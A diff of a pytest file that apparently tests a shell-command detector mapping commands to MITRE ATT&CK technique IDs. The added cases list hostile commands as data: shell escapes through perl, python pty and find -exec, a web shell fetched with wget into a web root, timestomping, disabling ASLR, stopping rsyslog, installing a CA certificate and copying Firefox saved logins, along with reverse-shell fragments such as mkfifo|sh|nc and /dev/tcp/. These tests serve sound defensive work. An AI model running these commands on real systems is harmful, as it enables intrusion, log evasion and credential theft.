@@ -240,19 +240,11 @@ def test_what_probes_and_entrypoints_are_told_is_not_known_bad(words: str) -> No
 
 
 def test_hostile_words_cost_no_time() -> None:
-    pieces = ("mkfifo|sh|nc ", "sh -", "grep -", "ls -", "find / -", "curl -F a", "nc -", "exec(", "/dev/tcp/", "kill -")
-    for piece in (
-        *pieces,
-        "rm ",
-        "> a.p",
-        ">a",
-        "truncate /var/",
-        "caption:@/",
-        "file:///",
-        "alias.",
-        "-c set ",
-        "from program",
-    ):
+    pieces = (  # noqa: SIM905 — texts
+        "mkfifo|sh|nc ;sh -;grep -;ls -;find / -;curl -F a;nc -;exec(;/dev/tcp/;kill -;rm ;> a.p;>a;truncate /var/;caption:@/;"
+        "file:///;alias.;-c set ;from program;cp /a/;tee a.p;curl -o;system ('; :! ;touch -;/tmp/.;script -;yes "
+    ).split(";")
+    for piece in pieces:
         exec_of("/usr/bin/dash", "sh", "-c", piece * (8192 // len(piece)))  # the suite's limit for a test is the assertion
 
 
@@ -304,6 +296,21 @@ def test_what_no_probe_needs_is_told_in_first_minutes(cluster: Cluster) -> None:
         ("git -c core.fsmonitor=x status", "T1202"),
         ("set", "T1082"),
         ("declare -p | sort", "T1082"),
+        ("perl -e 'exec \"/bin/sh\"'", "T1059.004"),
+        ("find . -exec /bin/sh ';'", "T1059.004"),
+        ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "T1059.004"),
+        ("script -qc /bin/bash /dev/null", "T1059.004"),
+        ("cp a.php /var/www/html/", "T1505.003"),
+        ("wget -qO /srv/www/a.jsp http://10.0.0.9/a", "T1505.003"),
+        ("touch -r /bin/ls /srv/x", "T1070.006"),
+        ("mv /bin/ps /bin/.ps", "T1036.003"),
+        ("mkdir /tmp/.hidden", "T1564.001"),
+        ("echo 0 > /proc/sys/kernel/randomize_va_space", "T1562.001"),
+        ("cat /sys/class/dmi/id/product_name", "T1082"),
+        ("service rsyslog stop", "T1489"),
+        ("yes > /dev/null", "T1499"),
+        ("cp x.crt /usr/local/share/ca-certificates/", "T1553.004"),
+        ("cp /root/.mozilla/firefox/x/logins.json /srv", "T1552.001"),
     ],
 )
 def test_words_say_what_they_are_about(words: str, technique: str) -> None:
@@ -333,11 +340,23 @@ def test_a_service_that_is_reloaded_is_not_stopped(words: str) -> None:
         ("psql -c 'select program from t'", "T1059"),
         ("redis-cli config get dir", "T1059"),
         ("set -e; nginx", "T1082"),
+        ("wget -qO- http://127.0.0.1:8080/index.jsp", "T1505.003"),
+        ("touch /srv/alive", "T1070.006"),
+        ("cp /srv/bin/x /srv/y", "T1036.003"),
+        ("ls /tmp/.X11-unix /tmp/.s.PGSQL.5432", "T1564.001"),
+        ("echo ready > /proc/1/fd/1", "T1562.001"),
+        ("yes | sort", "T1499"),
         ("wkhtmltopdf file:///srv/tmp/x.html x.pdf", "T1203"),
     ],
 )
 def test_words_that_look_alike_say_nothing_of_it(words: str, technique: str) -> None:
     assert technique not in exec_of("/usr/bin/dash", "sh", "-c", words).techniques
+
+
+def test_a_shell_that_a_search_runs_on_each_file_is_no_escape() -> None:
+    assert all(
+        each.why != "it makes a program a shell" for each in traits("/usr/bin/find", ("find", "/", "-exec", "sh", "-c", "x"))
+    )
 
 
 @pytest.mark.parametrize(("program", "told"), [('BEGIN {system("/bin/sh")}', True), ("{print $1}", False)])
